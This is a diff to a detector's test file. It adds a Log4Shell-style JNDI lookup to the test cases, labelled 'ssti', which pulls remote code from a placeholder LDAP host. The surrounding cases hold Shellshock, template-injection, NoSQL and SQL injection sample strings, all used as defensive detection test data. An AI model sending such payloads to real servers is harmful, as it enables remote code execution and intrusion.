@@ -38,6 +38,7 @@ def test_each_class_alerts_from_each_location(detector: InjectionDetector) -> No
         ("ssti", {"http.request.body.content": '{"name": "{{config.items()}}"}'}),
         ("nosql", {"url.query": "user[$ne]=x&password[$ne]=x"}),
         ("command", {"user_agent.original": "() { :; }; /bin/bash -c 'id'"}),
+        ("ssti", {"user_agent.original": "${jndi:ldap://198.51.100.9:1389/Exploit}"}),
         ("sqli", {"http.request.referrer": "https://shop.example/?id=1%27%20OR%20%271%27%3D%271"}),
     ]
     for n, (cls, fields) in enumerate(cases):
